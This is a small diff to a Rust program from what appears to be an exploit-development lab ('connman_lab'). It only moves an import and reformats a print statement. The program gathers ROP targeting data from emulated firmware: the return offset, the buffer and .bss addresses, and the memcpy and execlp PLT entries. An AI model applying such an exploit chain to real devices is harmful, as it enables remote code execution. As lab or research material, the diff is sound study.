@@ -8,9 +8,9 @@
 
 use connman_lab::exploit::target::deliver_labels;
 use connman_lab::exploit::{GadgetKind, RopMemcpyChain, TargetInfo};
+use connman_lab::firmware::Firmware;
 use connman_lab::vm::debug::Inspector;
 use connman_lab::{Arch, ExploitStrategy, FirmwareKind, Protections};
-use connman_lab::firmware::Firmware;
 
 fn main() -> Result<(), Box<dyn std::error::Error>> {
     let arch = Arch::X86;
@@ -19,7 +19,10 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
     let fw2 = fw.clone();
     let info = TargetInfo::gather(fw.image(), move || fw2.boot(Protections::full(), 5))?;
     println!("buffer→ret offset : {}", info.frame.ret_offset);
-    println!("buffer address    : {:#010x} (reference boot)", info.frame.buf_addr);
+    println!(
+        "buffer address    : {:#010x} (reference boot)",
+        info.frame.buf_addr
+    );
     println!(".bss staging base : {:#010x}", info.bss_base);
     println!("memcpy@plt        : {:#010x}", info.plt("memcpy").unwrap());
     println!("execlp@plt        : {:#010x}", info.plt("execlp").unwrap());
